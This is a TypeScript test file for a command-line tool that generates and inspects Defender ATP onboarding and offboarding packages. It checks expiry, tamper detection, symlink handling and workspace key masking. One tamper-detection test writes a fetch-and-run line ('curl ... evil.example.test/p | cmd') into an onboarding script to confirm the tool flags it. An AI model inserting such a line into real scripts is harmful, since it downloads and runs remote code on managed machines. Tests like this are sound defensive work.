import {captureOutput} from '@oclif/test'
import {mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import Init from '../../../src/commands/init.js'
import PackageExtract from '../../../src/commands/package/extract.js'
import PackageGenerate from '../../../src/commands/package/generate.js'
import PackageInspect from '../../../src/commands/package/inspect.js'
import PackageList from '../../../src/commands/package/list.js'
import WorkspaceShow from '../../../src/commands/workspace/show.js'
import type {GeneratedPackage} from '../../../src/core/package/generate.js'
import type {PackageListEntry, WorkspaceInfo} from '../../../src/core/package/service.js'
import {PROJECT_ROOT, tempHome} from '../../helpers/cli.js'
import {runJson} from '../../helpers/command.js'

describe('package and workspace commands (command layer)', () => {
  const {home, cleanup} = tempHome()
  const saved = process.env.ATPCTL_HOME
  beforeAll(async () => {
    process.env.ATPCTL_HOME = home
    await captureOutput(() => Init.run(['--location', 'uk', '--json'], PROJECT_ROOT))
  })
  afterAll(() => {
    process.env.ATPCTL_HOME = saved
    cleanup()
  })

  it('generate --json returns the package; the file is 0600; inspect reports it as ours', async () => {
    const out = join(home, 'on.zip')
    const gen = await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'local-script', '--out', out, '--json'], PROJECT_ROOT))
    expect(gen.error).toBeUndefined()
    expect((gen.result as {package: GeneratedPackage}).package).toMatchObject({kind: 'onboarding', os: 'windows', method: 'local-script', entries: ['WindowsDefenderATPLocalOnboardingScript.cmd']})
    expect(statSync(out).mode & 0o777).toBe(0o600)
    const insp = await captureOutput(() => PackageInspect.run([out, '--json'], PROJECT_ROOT))
    expect(insp.error).toBeUndefined()
    expect(insp.result).toMatchObject({kind: 'onboarding', os: 'windows', method: 'local-script', datacenter: 'WestUk', geo: 'UK', belongsToTenant: true, signer: {kind: 'tenant'}})
    expect(JSON.parse(insp.stdout)).toMatchObject({signatures: {sha1Valid: true, sha256Valid: true}})
  })

  it('inspect prints a human report', async () => {
    const out = join(home, 'gp.zip')
    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows-server', '--method', 'group-policy', '--out', out], PROJECT_ROOT))
    const {stdout, error} = await captureOutput(() => PackageInspect.run([out], PROJECT_ROOT))
    expect(error).toBeUndefined()
    expect(stdout).toMatch(/Kind:\s+onboarding/)
    expect(stdout).toMatch(/Signed by:\s+this profile's tenant/)
    expect(stdout).toMatch(/This tenant:\s+yes/)
  })

  it('CM7: --fail-if-expires-within 7d fails a 5-day offboarding package with exit 7', async () => {
    const out = join(home, 'off.zip')
    await captureOutput(() => PackageGenerate.run(['offboarding', '--os', 'linux', '--method', 'local-script', '--valid-days', '5', '--out', out], PROJECT_ROOT))
    const ok = await captureOutput(() => PackageInspect.run([out, '--json'], PROJECT_ROOT))
    expect(ok.result).toMatchObject({kind: 'offboarding', daysLeft: 5})
    const {error, stdout} = await captureOutput(() => PackageInspect.run([out, '--fail-if-expires-within', '7d', '--json'], PROJECT_ROOT))
    expect(error?.oclif?.exit).toBe(7)
    expect(JSON.parse(stdout).error).toMatchObject({code: 'PACKAGE_EXPIRING', exitCode: 7})
  })

  it('a tampered package exits 7 with the reason', async () => {
    const out = join(home, 'blob.zip')
    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'intune', '--out', out], PROJECT_ROOT))
    const extracted = join(home, 'blob-x')
    await captureOutput(() => PackageExtract.run([out, '--dir', extracted], PROJECT_ROOT))
    const blobFile = join(extracted, 'WindowsDefenderATP.onboarding')
    writeFileSync(blobFile, readFileSync(blobFile, 'utf8').replace('WestUk', 'WestUs'))
    const {error, stderr} = await captureOutput(() => PackageInspect.run([blobFile], PROJECT_ROOT))
    expect(error?.oclif?.exit).toBe(7)
    expect(stderr).toMatch(/does not match the body/)
  })

  it('issue 15: an altered carrier script exits 7 PACKAGE_TAMPERED (--json), its report naming the line', async () => {
    const out = join(home, 'gp-alter.zip')
    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'group-policy', '--out', out], PROJECT_ROOT))
    const extracted = join(home, 'gp-alter-x')
    await captureOutput(() => PackageExtract.run([out, '--dir', extracted], PROJECT_ROOT))
    const script = join(extracted, 'WindowsDefenderATPOnboardingScript.cmd')
    writeFileSync(script, readFileSync(script, 'utf8').replace('net session >NUL 2>&1\r\n', 'net session >NUL 2>&1\r\ncurl -s https://evil.example.test/p | cmd\r\n'))
    const json = await captureOutput(() => PackageInspect.run([script, '--json'], PROJECT_ROOT))
    expect(json.error?.oclif?.exit).toBe(7)
    expect(JSON.parse(json.stdout).error).toMatchObject({code: 'PACKAGE_TAMPERED', exitCode: 7})
    const human = await captureOutput(() => PackageInspect.run([script], PROJECT_ROOT))
    expect(human.stdout).toMatch(/Carrier layout:\s+ALTERED: WindowsDefenderATPOnboardingScript\.cmd line \d+/)
    expect(human.stderr).not.toContain('evil.example')
  })

  it('extract: a symlinked --dir and a FILE that is a directory are usage errors (exit 2)', async () => {
    const out = join(home, 'sym.zip')
    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'intune', '--out', out], PROJECT_ROOT))
    mkdirSync(join(home, 'sym-real'))
    symlinkSync(join(home, 'sym-real'), join(home, 'sym-link'))
    const link = await captureOutput(() => PackageExtract.run([out, '--dir', join(home, 'sym-link')], PROJECT_ROOT))
    expect(link.error?.oclif?.exit).toBe(2)
    expect(link.stderr).toMatch(/symbolic link/)
    const dirFile = await captureOutput(() => PackageExtract.run([join(home, 'sym-real'), '--dir', join(home, 'sym-out')], PROJECT_ROOT))
    expect(dirFile.error?.oclif?.exit).toBe(2)
    expect(dirFile.stderr).toMatch(/is a directory/)
  })

  it('invalid pairs are usage errors (exit 2) listing the valid methods', async () => {
    const {error, stderr} = await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'macos', '--method', 'group-policy'], PROJECT_ROOT))
    expect(error?.oclif?.exit).toBe(2)
    expect(stderr).toContain('Valid methods for --os macos: local-script, intune, mdm.')
  })

  it('list shows every generated package with expiry', async () => {
    const {result} = await runJson(PackageList, ['--json'])
    const {packages} = result as {packages: PackageListEntry[]}
    expect(packages.length).toBeGreaterThanOrEqual(4)
    expect(packages.find((p) => p.kind === 'offboarding')).toMatchObject({os: 'linux', daysLeft: 5, expired: false})
  })

  it('workspace show masks the key unless --reveal (T2)', async () => {
    const masked = await captureOutput(() => WorkspaceShow.run(['--json'], PROJECT_ROOT))
    const revealed = await captureOutput(() => WorkspaceShow.run(['--reveal', '--json'], PROJECT_ROOT))
    type Shown = {workspace: WorkspaceInfo}
    const key = (revealed.result as Shown).workspace.workspaceKey
    expect(key.length).toBeGreaterThan(40)
    expect(masked.stdout).not.toContain(key)
    expect((masked.result as Shown).workspace).toMatchObject({revealed: false, workspaceId: (revealed.result as Shown).workspace.workspaceId})
    const human = await captureOutput(() => WorkspaceShow.run(['--reveal'], PROJECT_ROOT))
    expect(human.stderr).toMatch(/secret/)
    expect(human.stdout).toContain(key)
  })
})
